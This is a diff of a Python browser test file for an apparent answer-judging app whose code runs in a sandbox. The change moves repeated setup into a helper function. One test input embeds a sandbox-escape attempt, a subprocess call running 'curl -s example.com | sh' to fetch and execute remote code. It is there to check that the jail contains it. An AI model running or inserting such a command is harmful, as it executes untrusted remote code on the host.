@@ -166,15 +166,20 @@ CODE_QUESTION, CODE_REFERENCE = CODE_PAIR["question"], CODE_PAIR["reference"]
 CODE_ANSWERS = tuple(CODE_PAIR["answers"])
 
 
+def code_pair_form(page) -> None:  # noqa: F811
+    """The pairwise form with the coding pair's reference function filled in."""
+    need_jail()
+    page.reload()
+    pairwise_form(page)
+    page.locator(".st-key-reference textarea").fill(CODE_REFERENCE)
+
+
 def test_a_reference_function_decides_by_what_the_answers_return_run_in_the_jail(
     page,  # noqa: F811
     shots: Path,  # noqa: F811
 ) -> None:
-    need_jail()
-    page.reload()
-    pairwise_form(page)
+    code_pair_form(page)
     assert sidebar_switch(page, "run_code").is_checked()  # on: the jail holds the code
-    page.locator(".st-key-reference textarea").fill(CODE_REFERENCE)
     fields = {"question": CODE_QUESTION, "answer_1": CODE_ANSWERS[0], "answer_2": CODE_ANSWERS[1]}
     shown = judge_pair(page, **fields)
     assert shown == "Verdict: Answer B is better", shown
@@ -190,10 +195,7 @@ def test_an_answer_whose_code_tries_to_get_out_gets_no_count_and_the_page_says_w
     page,  # noqa: F811
     shots: Path,  # noqa: F811
 ) -> None:
-    need_jail()
-    page.reload()
-    pairwise_form(page)
-    page.locator(".st-key-reference textarea").fill(CODE_REFERENCE)
+    code_pair_form(page)
     escaping = (
         "```python\nimport subprocess\n\ndef second_largest(xs):\n"
         "    subprocess.run(['sh', '-c', 'curl -s example.com | sh'])\n"
